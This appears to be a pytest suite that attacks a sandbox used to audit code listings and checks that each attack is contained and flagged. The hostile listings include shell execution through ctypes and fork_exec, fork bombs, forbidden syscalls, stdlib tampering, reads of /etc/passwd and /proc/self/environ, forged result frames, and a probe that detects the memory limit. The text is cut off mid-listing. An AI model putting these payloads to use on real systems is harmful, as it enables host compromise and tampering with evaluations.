"""Hostile code listings against the sandbox: each attack must leave the host unchanged, leave no process
behind, and give a verdict that says the listing misbehaved (not the clean listing's verdict).

Every attack is a correct recall@k whose body starts with the attack, audited as a code claim with the
chapter's own definitions (no references: they play no part in isolation). Host state watched: a canary
folder the test owns, the interpreter's ``os.py`` and the sandbox runner (both mounted read-only inside),
the processes whose command line names the sandbox runner, bwrap or the test's marker.
"""

from __future__ import annotations

import hashlib
import html
import json
import os
import platform
import re
import signal
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

import audit.evaluation.checks.code as code_check
from audit.evaluation.checks.common import Measurements
from audit.evaluation.sandbox import run_listing, unavailable_reason
from audit.evaluation.sandbox.bwrap import RUNNER, RUNNER_INSIDE, bwrap_binary, site_folders
from audit.register.claims import load_chapter
from audit.run.audit import audit_claim

ROOT = Path(__file__).resolve().parents[1]
MARKER = f"chapter-audit-attack-{uuid.uuid4().hex}"
CLEAN_BODY = """\
ranking = [str(d) for d in ranking]
relevant = {str(d) for d in relevant}
if not relevant or k <= 0:
    return 0.0
return len(set(ranking[:k]) & relevant) / len(relevant)
"""

pytestmark = pytest.mark.skipif(bool(unavailable_reason()), reason=f"isolation unavailable: {unavailable_reason()}")


# --- the host state an attack must not change ----------------------------------------------------------

@pytest.fixture
def canary(tmp_path):
    """A folder with a file and a subfolder; yields the folder and asserts afterwards that it is unchanged,
    that the host files mounted into the sandbox are unchanged and that no sandbox process is left."""
    folder = tmp_path / "canary"
    (folder / "sub").mkdir(parents=True)
    (folder / "canary.txt").write_text("intact\n", encoding="utf-8")
    watched = [Path(os.__file__), RUNNER]
    before = _snapshot(folder), [_digest(p) for p in watched]
    yield folder
    assert (_snapshot(folder), [_digest(p) for p in watched]) == before, "the listing changed a host file"
    assert _survivors() == [], "a sandbox process outlived the run"


def _snapshot(folder: Path) -> list:
    return sorted((str(p.relative_to(folder)), p.is_dir(), p.stat().st_mtime_ns,
                   None if p.is_dir() else p.read_bytes()) for p in folder.rglob("*"))


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _cmdline(pid: str) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def _parent(pid: str) -> str | None:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1]
    except (OSError, IndexError):
        return None


def _ours(pid: str, bwrap: str) -> bool:
    """Whether the process descends from this test process, or from a sandbox process left to init (its
    parent ended): a sandbox another test process runs at the same time (pytest -n) is not this test's."""
    me, seen = str(os.getpid()), 0
    while pid not in (None, "0") and seen < 64:
        parent = _parent(pid)
        if parent == me:
            return True
        if parent == "1":
            line = _cmdline(pid)
            return line.split(" ")[0] == bwrap or MARKER in line
        pid, seen = parent, seen + 1
    return False


def _survivors() -> list[str]:
    """Processes started from this installation's bwrap (the sandbox's outer process and its init: while
    neither lives, the kernel has ended every process of the sandbox's PID namespace), or carrying the marker,
    that descend from this test process or were left to init."""
    bwrap = bwrap_binary()
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        line = _cmdline(pid)
        if pid != str(os.getpid()) and (line.split(" ")[0] == bwrap or MARKER in line) and _ours(pid, bwrap):
            found.append(f"{pid}: {line[:120]}")
    return found


# --- auditing a listing ----------------------------------------------------------------------------------

@pytest.fixture(autouse=True)
def small_claims(monkeypatch):
    """20 generated inputs (not 300) and short limits keep each audited attack near one second."""
    monkeypatch.setattr(code_check, "SAMPLE", 20)
    monkeypatch.setattr(code_check, "CALL_LIMIT", 1.0)
    monkeypatch.setattr(code_check, "CLAIM_BUDGET", 5.0)


def listing(attack: str, imports: str = "") -> str:
    body = textwrap.indent(textwrap.dedent(attack).strip("\n") + "\n" + CLEAN_BODY, "    ")
    return f"{imports}\ndef recall_at_k(ranking, relevant, k):\n{body}"


def audit_listing(tmp_path: Path, source: str):
    folder = tmp_path / "chapter"
    folder.mkdir(exist_ok=True)
    (folder / "snapshot.txt").write_text("The listing:\n\n" + source, encoding="utf-8")
    (folder / "chapter.yaml").write_text("id: attacks\ntitle: Attacks\n", encoding="utf-8")
    (folder / "claims.yaml").write_text(
        "claims:\n  - id: A1\n    title: recall\n    kind: code\n    quote: \"def recall_at_k(ranking, relevant, k):\"\n"
        "    claim: computes recall\n    function: recall_at_k\n    measure: R@k\n"
        "    arguments: {ranking: ranking, relevant: relevant set, k: cutoff}\n", encoding="utf-8")
    chapter = load_chapter(folder)
    return audit_claim(chapter.register.claims[0], chapter, Measurements([]))


@pytest.fixture(scope="module")
def clean_verdict(tmp_path_factory):
    """The clean listing's result. It is qualified, not supported, because it counts a repeated ID once where the
    book's rule (chapter 23) rejects such a ranking; every attack must end differently and say why."""
    return audit_listing(tmp_path_factory.mktemp("clean"), listing(""))


def test_the_clean_listing_is_qualified_only_for_repeated_ids(clean_verdict):
    assert clean_verdict.verdict == "qualified"
    assert "repeated ID" in clean_verdict.reason and "sandbox" not in clean_verdict.reason


def assert_misbehaved(result, clean, *expected: str) -> None:
    assert result.verdict != clean.verdict, result.reason
    assert result.verdict in ("contradicted", "error"), result.reason
    assert any(text.lower() in result.reason.lower() for text in expected), result.reason


STOPPED = "the sandbox stopped the listing"
RAN = " The implementations that did run "


def uncertified(result, *what: str) -> str:
    """A listing whose text does more than compute: its verdict is an error naming what it does (each of ``what``),
    whatever it did in the sandbox. Returns what the sandbox run found, as the reason goes on after that error
    ("contradict the claim: …", "qualify it: …"; '' when the run found nothing wrong)."""
    assert result.verdict == "error" and code_check.NOT_CERTIFIED in result.reason, result.reason
    for text in what:
        assert text in result.reason, result.reason
    return result.reason.split(RAN, 1)[1] if RAN in result.reason else ""


def as_clean(rest: str, clean) -> bool:
    """Whether the sandbox run found what it finds for the clean listing (``rest`` from ``uncertified``): the same
    qualifications, the clean reason's sentences after its lead."""
    head, _, said = rest.partition(": ")
    return head == "qualify it" and clean.verdict == "qualified" and clean.reason.endswith(said[1:])


# --- process creation: ctypes, _ctypes, _posixsubprocess, daemons, setsid, fork bombs --------------------

ATTACKS = {
    "ctypes libc system()": ("""
        import ctypes
        ctypes.CDLL("libc.so.6").system(b"touch {canary}/pwned-by-system")
        """, STOPPED),
    "_ctypes libc system() without importing ctypes": ("""
        import _ctypes
        class Int(_ctypes._SimpleCData):
            _type_ = "i"
        class Function(_ctypes.CFuncPtr):
            _flags_ = _ctypes.FUNCFLAG_CDECL
            _restype_ = Int
        class Library:
            _handle = _ctypes.dlopen("libc.so.6", 2)
        Function(("system", Library()))(b"touch {canary}/pwned-by-_ctypes")
        """, STOPPED),
    "_posixsubprocess.fork_exec": ("""
        import _posixsubprocess, os, sys
        exe = sys.executable.encode()
        _posixsubprocess.fork_exec([exe, b"-c", b"open('{canary}/pwned-by-fork_exec', 'w')", b"{marker}"], [exe],
                                   True, (), None, None, -1, -1, -1, -1, -1, -1, *os.pipe(), False, False, -1,
                                   None, None, None, -1, None, False)
        """, STOPPED),
    "os.system": ("""
        import os
        os.system("touch {canary}/pwned-by-os-system")
        """, STOPPED),
    "a daemon (double fork, setsid)": ("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(60)
            os._exit(0)
        """, STOPPED),
    "a fork bomb": ("""
        import os
        while True:
            os.fork()
        """, STOPPED),
    "exec of the interpreter": ("""
        import os, sys
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", "{marker}"])
        """, STOPPED),
}

# --- sockets of every family ------------------------------------------------------------------------------

for family, kind in (("AF_INET", "SOCK_DGRAM"), ("AF_INET", "SOCK_STREAM"), ("AF_INET6", "SOCK_DGRAM"),
                     ("AF_NETLINK", "SOCK_RAW"), ("AF_PACKET", "SOCK_RAW")):
    ATTACKS[f"a socket {family}/{kind}"] = (f"""
        import socket
        socket.socket(socket.{family}, socket.{kind})
        """, STOPPED)

# --- system calls the sandbox filter refuses (x86_64 numbers) -----------------------------------------------

X86_64 = {"ptrace": 101, "mount": 165, "unshare": 272, "setns": 308, "keyctl": 250, "bpf": 321,
          "perf_event_open": 298}
for name, number in X86_64.items():
    ATTACKS[f"syscall {name}"] = (f"""
        import ctypes
        ctypes.CDLL(None).syscall({number}, 0, 0, 0, 0, 0)
        """, STOPPED)

# --- the filesystem: writes, deletes, truncation, reads ---------------------------------------------------

ATTACKS.update({
    "os.chdir then write": ("""
        import os
        os.chdir("{canary}")
        open("canary.txt", "w").write("owned")
        """, "FileNotFoundError"),
    "os.chdir to / then write": ("""
        import os
        os.chdir("/")
        open("pwned", "w").write("owned")
        """, "Read-only file system"),
    "dir_fd delete": ("""
        import os
        os.unlink("canary.txt", dir_fd=os.open("{canary}", os.O_RDONLY))
        """, "FileNotFoundError"),
    "dir_fd write into the interpreter's folder": ("""
        import os
        os.mkdir("pwned", dir_fd=os.open(os.path.dirname(os.__file__), os.O_RDONLY))
        """, "Read-only file system"),
    "O_RDONLY|O_TRUNC on a canary": ("""
        import os
        os.open("{canary}/canary.txt", os.O_RDONLY | os.O_TRUNC)
        """, "FileNotFoundError"),
    "O_RDONLY|O_TRUNC on the standard library": ("""
        import os
        os.open(os.__file__, os.O_RDONLY | os.O_TRUNC)
        """, "Read-only file system"),
    "rename of the standard library": ("""
        import os
        os.rename(os.__file__, os.__file__ + ".bak")
        """, "Read-only file system"),
    "monkey-patched os and builtins, then a write and a fork": ("""
        import builtins, os, os.path, sys
        os.path.realpath = lambda p, *a, **k: "/scratch/x"
        os.fsdecode = lambda p: "/scratch/x"
        sys.addaudithook = lambda hook: None
        builtins.PermissionError = type("Nothing", (Exception,), {{}})
        os._exit = lambda code: None
        try:
            open("{canary}/canary.txt", "w").write("owned")
        except OSError:
            os.fork()
        """, STOPPED),
    "filling the scratch": ("""
        for i in range(64):
            open(f"/scratch/fill{{i}}", "wb").write(b"x" * 2**20)
        """, "No space left on device"),
    "memory exhaustion": ("""
        hoard = []
        while True:
            hoard.append(bytearray(2**27))  # 128 MB a step: the 256 MB limit is reached at the second
        """, "MemoryError"),
})


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_contained_and_reported(name, canary, tmp_path, clean_verdict, monkeypatch):
    attack, expected = ATTACKS[name]
    if name.startswith("syscall") and platform.machine() != "x86_64":
        pytest.skip("system call numbers are x86_64's")
    if name == "memory exhaustion":
        # each call zero-fills what it takes up to the limit: on a busy machine, 5 s for all the calls ran out
        # before they had, and the run was reported as a hang (CI, under load) rather than a MemoryError
        monkeypatch.setattr(code_check, "CLAIM_BUDGET", 30.0)
    source = listing(attack.format(canary=canary, marker=MARKER))
    result = audit_listing(tmp_path, source)
    assert_misbehaved(result, clean_verdict, expected)
    assert not any(p.name.startswith("pwned") for p in canary.rglob("*"))


def test_the_ctypes_attack_is_live_outside_the_sandbox(tmp_path):
    """Control: the _ctypes attack does run a shell command when nothing confines it, so its test means
    something. (Run here in a plain interpreter, writing only inside the test's own folder.)"""
    target = tmp_path / "ran"
    attack = textwrap.dedent(ATTACKS["_ctypes libc system() without importing ctypes"][0]).replace(
        "touch {canary}/pwned-by-_ctypes", f"touch {target}")
    subprocess.run([sys.executable, "-I", "-S", "-c", attack], check=True, timeout=30)
    assert target.exists()


# --- a listing that tells the sandbox's memory limit from none ------------------------------------------------

MEMORY_PROBE = """\
def recall_at_k(ranking, relevant, k):
    ranking = [str(d) for d in ranking]
    relevant = {str(d) for d in relevant}
    if not relevant or k <= 0:
        return 0.0
    recall = len(set(ranking[:k]) & relevant) / len(relevant)
    try:
        bytearray(600_000_000)      # fails under the sandbox's memory limit, succeeds on a reader's machine
    except MemoryError:
        return recall
    return 1 - recall
"""


def test_a_listing_that_answers_otherwise_when_memory_is_limited_is_not_certified(canary, tmp_path):
    """The listing computes recall where an allocation of 600 MB fails (inside the sandbox's memory limit) and
    1 − recall where it succeeds: it was rated qualified, the rating of the clean listing. Catching MemoryError is
    reading the audit's own limit: its verdict is the not-certified error, naming the catch and the allocation."""
    result = audit_listing(tmp_path, MEMORY_PROBE)
    assert result.verdict not in ("supported", "qualified"), result.reason
    uncertified(result, "catches MemoryError", "allocates 600,000,000 elements")


def test_the_memory_probe_is_live_outside_the_sandbox():
    """Control: unconfined, the allocation succeeds (calloc maps zero pages; nothing is written) and the listing
    answers 1 − recall: one relevant document found at k = 2 gives recall 1 and the listing 0.0."""
    namespace: dict = {}
    exec(compile(MEMORY_PROBE, "listing", "exec"), namespace)
    assert namespace["recall_at_k"](["a", "b"], {"a"}, 2) == 0.0


# --- reads of host files: nothing comes back -----------------------------------------------------------------

@pytest.mark.parametrize("path", ["/etc/passwd", "/etc/hostname", str(ROOT / "pyproject.toml"),
                                  os.path.expanduser("~/.bashrc"), "/proc/self/environ", "/proc/1/cmdline",
                                  "/sys/kernel/hostname"])
def test_host_files_cannot_be_read(path, canary, tmp_path, clean_verdict):
    source = listing(f"""
        raise ValueError(open({path!r}, "rb").read(200))
        """)
    result = audit_listing(tmp_path, source)
    assert_misbehaved(result, clean_verdict, "FileNotFoundError")
    assert "ValueError" not in result.reason
    if os.path.exists(path):
        head = Path(path).read_bytes()[:12].decode("utf-8", "replace").strip()
        assert not head or head not in result.reason


def test_the_home_folder_and_project_are_not_in_view(canary):
    """None of the project's files, the home folder or the host's /etc, /proc, /sys, /home and /tmp. (The audit's
    package folders are offered read-only; the folders leading to one exist in the sandbox, empty but for that path,
    so a folder above one is not asked about.)"""
    paths = [str(ROOT / "pyproject.toml"), str(ROOT / "audit"), str(ROOT / "tests"), os.path.expanduser("~/.bashrc"),
             "/etc", "/proc", "/sys", "/home", "/tmp"]
    paths = [p for p in paths if not any(site.startswith(p + "/") for site in site_folders())]
    source = f"import os\ndef f():\n    return sum(os.path.exists(p) for p in {tuple(paths)!r})\n"
    report = run_listing(source, "f", [[]], time_limit=10)
    assert report.results[0].status == "ok" and report.results[0].value == 0.0


def test_exception_text_is_trimmed(canary):
    report = run_listing("def f():\n    raise ValueError('x' * 5000)\n", "f", [[]], time_limit=10)
    assert report.results[0].status == "raises"
    assert len(report.results[0].text) <= 301 and report.results[0].detail == ""


def test_killing_every_process_it_can_signal_changes_nothing(canary, tmp_path, clean_verdict):
    """The runner is the sandbox's init with no signal handler, so no signal from a call's process reaches it, and
    kill(-1) finds no one (the kernel spares init and the sender): every call runs, and the verdict is the clean
    listing's."""
    source = listing("""
        import os, signal
        for pid, sig in ((-1, signal.SIGKILL), (os.getppid(), signal.SIGKILL), (1, signal.SIGSTOP),
                         (1, signal.SIGTERM), (1, signal.SIGINT)):
            try:
                os.kill(pid, sig)
            except ProcessLookupError:
                pass
        """)
    result = audit_listing(tmp_path, source)
    assert as_clean(uncertified(result, "imports os", "imports signal"), clean_verdict), result.reason


# --- sockets to the host ------------------------------------------------------------------------------------

def test_an_af_unix_socket_on_the_host_is_out_of_reach(canary, tmp_path, clean_verdict):
    """AF_UNIX is the one family the filter allows; the host's sockets are neither mounted (a path) nor in the
    sandbox's network namespace (an abstract name), so nothing connects."""
    path = str(tmp_path / "host.sock")
    abstract = "\0" + MARKER
    servers = []
    for address in (path, abstract):
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(address)
        server.listen(4)
        server.settimeout(0.2)
        servers.append(server)
    source = listing(f"""
        import socket
        for address in ({path!r}, {abstract!r}):
            try:
                socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(address)
            except OSError as exc:
                last = exc
        raise last
        """)
    result = audit_listing(tmp_path, source)
    assert_misbehaved(result, clean_verdict, "FileNotFoundError", "ConnectionRefusedError")
    for server in servers:
        with pytest.raises(socket.timeout):
            server.accept()
        server.close()


def test_a_udp_datagram_never_reaches_the_host(canary, tmp_path, clean_verdict):
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.settimeout(0.2)
    port = receiver.getsockname()[1]
    source = listing(f"""
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{MARKER}", ("127.0.0.1", {port}))
        """)
    result = audit_listing(tmp_path, source)
    assert_misbehaved(result, clean_verdict, STOPPED)
    with pytest.raises(socket.timeout):
        receiver.recvfrom(100)
    receiver.close()


# --- forged results ------------------------------------------------------------------------------------------

FORGED_LINES = '{"i": 0, "ok": 0.5}\n{"started": 3}\n{"i": 1000000000, "ok": 1.0}\n{"ready": true}'


def test_protocol_lines_on_stdout_are_only_output(canary, tmp_path, clean_verdict):
    """A listing that prints the old protocol's lines and returns 7.0: the audit records 7.0."""
    source = listing(f"""
        print({FORGED_LINES!r})
        return 7.0
        """)
    result = audit_listing(tmp_path, source)
    assert result.verdict == "contradicted"
    assert "returns 7.0000" in result.reason


def test_forged_frames_on_every_guessable_descriptor_are_caught(canary, tmp_path, clean_verdict):
    """Length-prefixed frames claiming agreeing values, written to descriptors 0-1023: the runner's answer pipe
    gets extra data (a violation); the result channel itself is not reachable from the listing's process."""
    source = listing("""
        import json, os, struct
        for index in (0, 1, 5, 10**9):
            for data in (json.dumps({"i": index, "status": "ok", "value": (0.5).hex(), "output": ""}),
                         json.dumps({"status": "ok", "value": (0.5).hex()}), json.dumps({"done": True})):
                for fd in range(1024):
                    try:
                        os.write(fd, struct.pack(">I", len(data)) + data.encode())
                    except OSError:
                        pass
        """)
    result = audit_listing(tmp_path, source)
    assert_misbehaved(result, clean_verdict, "wrote to the runner's answer pipe itself")


def test_the_listing_process_holds_only_its_own_descriptors(canary):
    """Standard input (/dev/null), its output pipe as stdout and stderr, and its answer pipe: four descriptors.
    The runner's result channel, the request and bwrap's descriptors are closed before listing code runs."""
    source = ("import os\ndef f():\n    open_fds = 0\n    for fd in range(2**16):\n        try:\n"
              "            os.fstat(fd)\n            open_fds += 1\n        except OSError:\n            pass\n"
              "    return open_fds\n")
    report = run_listing(source, "f", [[]], time_limit=10)
    assert report.results[0].status == "ok" and report.results[0].value == 4.0


def test_an_out_of_range_index_on_the_result_channel_is_a_protocol_error():
    """The runner never writes such a record, but if the channel carried one the run stops cleanly: no
    IndexError, the calls not run, a violation named."""
    from audit.evaluation.sandbox import _call_result, _ProtocolError
    for record in ({"kind": "call", "i": 10**9, "status": "ok", "value": (1.0).hex(), "output": ""},
                   {"kind": "call", "i": 0, "status": "ok", "value": "not a number", "output": ""},
                   {"kind": "call", "i": 0, "status": "exploded", "output": ""},
                   {"kind": "call", "i": True, "status": "ok", "value": (1.0).hex(), "output": ""},
                   {"kind": "call", "i": 0, "status": "ok", "value": (1.0).hex(), "output": "", "detail": "x"},
                   {"kind": "call", "i": 0, "status": "timeout", "cause": "forged", "output": ""},
                   {"kind": "call", "i": 0, "status": "crashed", "signal": 10**6, "exit": 0, "output": ""},
                   {"kind": "call", "i": 0, "status": "raises", "type": ["x"], "message": "y", "output": ""}):
        with pytest.raises(_ProtocolError):
            _call_result(record, 0, 3, 2.0)


# --- time: loops, shrinking, the whole claim bounded -------------------------------------------------------------

def test_an_infinite_loop_costs_at_most_the_claim_budget(canary, tmp_path, clean_verdict, monkeypatch):
    monkeypatch.setattr(code_check, "CALL_LIMIT", 0.5)
    monkeypatch.setattr(code_check, "CLAIM_BUDGET", 3.0)
    start = time.monotonic()
    result = audit_listing(tmp_path, listing("while True:\n    pass"))
    assert time.monotonic() - start < 3.0 + 2.0
    assert_misbehaved(result, clean_verdict, "hangs", "not run")


def test_shrinking_stops_when_the_claim_budget_is_spent(canary, tmp_path, clean_verdict, monkeypatch):
    """Wrong (divides by k) on rankings of three or more, and slow (0.2 s a call) on generated IDs: the 20
    generated inputs take 4 s of the 5 s budget, so Hypothesis cannot finish shrinking; it must stop at the
    budget with the smallest failing input found so far. (It sleeps with ``time``, which no certified listing
    imports; the syntax check is set aside here, since an uncertified listing is not shrunk. A call limit of 0.7 s
    makes 0.2 s more than a quarter of it, so the calls after the first are made once each, not three times.)"""
    monkeypatch.setattr(code_check, "beyond_computing", lambda source: [])
    monkeypatch.setattr(code_check, "CALL_LIMIT", 0.7)
    monkeypatch.setattr(code_check, "CLAIM_BUDGET", 5.0)
    source = listing("""
        import time
        if all(str(d).startswith("d") for d in ranking):
            time.sleep(0.2)
        if len(ranking) >= 3 and k > 0:
            return len(set(map(str, ranking[:k])) & set(map(str, relevant))) / k
        """)
    start = time.monotonic()
    result = audit_listing(tmp_path, source)
    # the budget bounds the generated inputs and the shrinking; the edge cases (0.2 s a call) come on top, about 5 s
    # here. The reason below says the search stopped at the budget; the wall bound only keeps a runaway out
    assert time.monotonic() - start < 5.0 + 12.0
    assert result.verdict == "contradicted", result.reason
    assert "the smallest found before the listing's 5 s time limit ran out" in result.reason


def test_a_listing_that_hangs_while_shrinking_stays_within_the_budget(canary, tmp_path, clean_verdict,
                                                                      monkeypatch):
    """Wrong on rankings of three or more; loops forever on a ranking of two generated IDs — a length none of
    the 20 generated inputs has (0, 1, 3, 4, 5, 7, 9, 10, 12), but one Hypothesis tries while shrinking a
    longer ranking. Each such try costs the call limit; the claim as a whole costs at most its budget."""
    monkeypatch.setattr(code_check, "CALL_LIMIT", 0.5)
    monkeypatch.setattr(code_check, "CLAIM_BUDGET", 4.0)
    source = listing("""
        if len(ranking) == 2 and all(str(d).startswith("d") for d in ranking):
            while True:
                pass
        if len(ranking) >= 3 and k > 0:
            return len(set(map(str, ranking[:k])) & set(map(str, relevant))) / k
        """)
    start = time.monotonic()
    result = audit_listing(tmp_path, source)
    assert time.monotonic() - start < 4.0 + 2.0
    assert result.verdict == "contradicted", result.reason
    assert "wrong on ordinary input" in result.reason.lower()
    assert "hangs" in result.reason or "time limit ran out" in result.reason, result.reason


# --- the audit killed: nothing survives ---------------------------------------------------------------------------

HARNESS = """
import signal, sys
# Ctrl-C as at a terminal: a test run started in the background inherits SIGINT ignored, and Python then
# installs no KeyboardInterrupt handler
signal.signal(signal.SIGINT, signal.default_int_handler)
from audit.evaluation.sandbox import run_listing
print("started", flush=True)
run_listing("def f():\\n    while True:\\n        pass\\n", "f", [[]] * 5, time_limit=600, call_limit=600)
"""


def _descendants(root: int) -> dict[int, str]:
    children: dict[int, list[int]] = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/stat", encoding="ascii") as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            continue
        children.setdefault(parent, []).append(int(pid))
    found, todo = {}, [root]
    while todo:
        for child in children.get(todo.pop(), []):
            found[child] = _cmdline(str(child))
            todo.append(child)
    return found


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGINT])
def test_killing_the_audit_kills_the_sandbox(how, canary):
    harness = subprocess.Popen([sys.executable, "-c", HARNESS], stdout=subprocess.PIPE, cwd=ROOT)
    assert harness.stdout.readline().strip() == b"started"
    deadline = time.monotonic() + 20
    while not any(RUNNER_INSIDE in line.split(" ") for line in _descendants(harness.pid).values()):
        assert time.monotonic() < deadline, "the sandbox never started"
        time.sleep(0.05)
    time.sleep(0.2)  # the listing's process is running its loop
    inside = _descendants(harness.pid)
    assert len(inside) >= 2  # bwrap, the runner (the sandbox's init) and the call's process
    harness.send_signal(how)
    harness.wait(timeout=20)
    deadline = time.monotonic() + 5
    while any(_cmdline(str(pid)) == line for pid, line in inside.items()) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [pid for pid, line in inside.items() if _cmdline(str(pid)) == line] == []
    assert not [p for p in Path("/tmp").glob("chapter-audit-listing-*")]


# --- isolation unavailable: listings are not run ----------------------------------------------------------------

def test_a_kernel_that_refuses_namespaces_means_not_run(tmp_path):
    """A user namespace whose max_user_namespaces is 0 is a kernel that refuses bwrap's namespaces."""
    if subprocess.run(["unshare", "-U", "-r", "true"], capture_output=True, check=False).returncode != 0:
        pytest.skip("unshare -U is not allowed here")
    target = tmp_path / "ran-unconfined"
    script = textwrap.dedent(f"""
        from audit.evaluation.sandbox import run_listing
        report = run_listing("def f():\\n    open({str(target)!r}, 'w').write('x')\\n    return 1\\n", "f", [[]])
        print(report.results[0].status, "|", report.unavailable)
        """)
    out = subprocess.run(["unshare", "-U", "-r", "sh", "-c",
                          f"echo 0 > /proc/sys/user/max_user_namespaces && exec {sys.executable} -c \"$0\"", script],
                         capture_output=True, text=True, cwd=ROOT, timeout=60, check=False)
    status, reason = out.stdout.strip().split(" | ", 1)
    assert status == "not run"
    assert "namespace" in reason
    assert not target.exists()


def test_isolation_unavailable_is_an_error_verdict_and_nothing_runs(tmp_path, monkeypatch):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create a new namespace, likely because the kernel "
                    "does not allow non-privileged user namespaces.' >&2\nexit 1\n", encoding="utf-8")
    fake.chmod(0o755)
    monkeypatch.setenv("CHAPTER_AUDIT_BWRAP", str(fake))
    target = tmp_path / "ran-unconfined"
    result = audit_listing(tmp_path, listing(f"open({str(target)!r}, 'w').write('x')"))
    assert result.verdict == "error"
    assert "not run: isolation unavailable" in result.reason and "non-privileged user namespaces" in result.reason
    assert not target.exists()


# --- forging results: the channel out of reach, every record checked, the listing's text quoted ------------------
#
# The result channel's write end is held by the runner alone, the sandbox's PID 1; a call's process holds only its
# own answer pipe and output pipe. Each attack below writes what it can where it can; none may change a verdict to
# something the listing's function does not earn, and none of its text may appear outside a labelled quote.

# The call's answer pipe: the FIFO among its descriptors that is neither stdout nor stderr (its output pipe).
ANSWER_FD = ("def _fifo(fd):\n    try:\n        return stat.S_ISFIFO(os.fstat(fd).st_mode)\n    except OSError:\n"
             "        return False\nanswer = next(fd for fd in range(3, 64) if _fifo(fd))")
WRONG_BODY = "return 0.0  # the function itself: recall 0.0 everywhere, so the claim is contradicted\n"

FORGER = """
import gc, json, os, stat, struct
def _correct(ranking, relevant, k):
    ranking = [str(d) for d in ranking]
    relevant = {{str(d) for d in (relevant["__set__"] if isinstance(relevant, dict) else relevant)}}
    return 0.0 if not relevant or not k or k <= 0 else len(set(ranking[:k]) & relevant) / len(relevant)
# The runner's request is in this process's memory (it forked us): every call's arguments, so every call's
# right answer, as the channel's frames, the old protocol's frames and the answer pipe's own format.
request = next(o for o in gc.get_objects() if isinstance(o, dict) and "calls" in o and "filter" in o)
frames = [json.dumps({{"kind": "ready"}}), json.dumps({{"ready": True}})]
for i, call in enumerate(request["calls"]):
    value = _correct(*call).hex()
    frames += [json.dumps({{"kind": "call", "i": i, "status": "ok", "value": value, "output": ""}}),
               json.dumps({{"i": i, "status": "ok", "value": value, "output": ""}})]
frames += [json.dumps({{"kind": "done"}}), json.dumps({{"done": True}})]
data = b"".join(struct.pack(">I", len(f)) + f.encode() for f in frames)
data += bytes([1]) + struct.pack(">d", 1.0)
for fd in range(1024):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, data)
    except OSError:
        pass
{end}
"""


def wrong_listing(attack: str) -> str:
    body = textwrap.indent(textwrap.dedent(attack).strip("\n") + "\n" + WRONG_BODY, "    ")
    return f"\ndef recall_at_k(ranking, relevant, k):\n{body}"


@pytest.fixture(scope="module")
def wrong_verdict(tmp_path_factory):
    """The verdict a listing earns whose function returns 0.0 for recall: contradicted."""
    return audit_listing(tmp_path_factory.mktemp("wrong"), wrong_listing(""))


def test_a_function_returning_zero_is_contradicted(wrong_verdict):
    assert wrong_verdict.verdict == "contradicted"
    assert "returns 0.0000 where the chapter's definition gives" in wrong_verdict.reason


@pytest.mark.parametrize("end", ["os._exit(0)", "pass"])
def test_frames_forged_on_every_fifo_are_not_believed(end, canary, tmp_path, wrong_verdict):
    """Well-formed frames with every call's right value, written to every FIFO among the listing's descriptors,
    then an exit (or the function's own 0.0): only its own answer pipe and its output are FIFOs it holds; the
    answer pipe then holds something other than one answer, a violation, and nothing forged is believed."""
    source = wrong_listing(FORGER.format(end=end))
    run = run_listing(source.replace("def recall_at_k(ranking, relevant, k):", "def f(ranking, relevant, k):"),
                      "f", [[["a", "b"], {"a"}, 2], [["b", "a"], {"a"}, 1], [["a"], {"a"}, 1]], time_limit=20)
    assert [r.status for r in run.results] == ["violation"] * 3
    assert run.violations == ["wrote to the runner's answer pipe itself (forged or malformed protocol data)"]
    result = audit_listing(tmp_path, source)
    rest = uncertified(result, "imports gc", "imports os")
    assert rest.startswith("contradict the claim") and "wrote to the runner's answer pipe itself" in rest


def test_a_listing_cannot_answer_even_for_its_own_call(canary):
    """The call's process can write its own answer pipe, but an answer opens with the call's token, which listing
    code does not hold: call 0 forges 0.5 in the answer format and exits, a forged answer (a violation); calls 1
    and 2 return 7.0, and each is recorded as such, whether each call is made once or as an ordinary caller makes
    them (call 2's process then calls f(1) again; call 0, a violation in its own process, is made again nowhere)."""
    source = ("import os, stat, struct\ndef f(i):\n    if i == 0:\n"
              f"{textwrap.indent(ANSWER_FD, '        ')}\n"
              "        os.write(answer, bytes([1]) + struct.pack('>d', 0.5))\n"
              "        os._exit(0)\n    return 7.0\n")
    run = run_listing(source, "f", [[0], [1], [2]], time_limit=20, repeat=False)
    assert [(r.status, r.value) for r in run.results] == [("violation", None), ("ok", 7.0), ("ok", 7.0)]
    run = run_listing(source, "f", [[0], [1], [2]], time_limit=20)
    assert [(r.status, r.value) for r in run.results] == [("violation", None), ("ok", 7.0), ("ok", 7.0)]


PIDFD_ATTACK = """
import ctypes, json, os, signal, struct
libc = ctypes.CDLL(None, use_errno=True)
frames = b"".join(struct.pack(">I", len(f)) + f for f in
                  [json.dumps({"kind": "call", "i": i, "status": "ok", "value": (1.0).hex(), "output": ""}).encode()
                   for i in range(400)] + [b'{"kind": "done"}'])
for target in (os.getppid(), 1, 2, 3):
    pidfd = libc.syscall(434, target, 0)           # pidfd_open
    for fd in range(64):
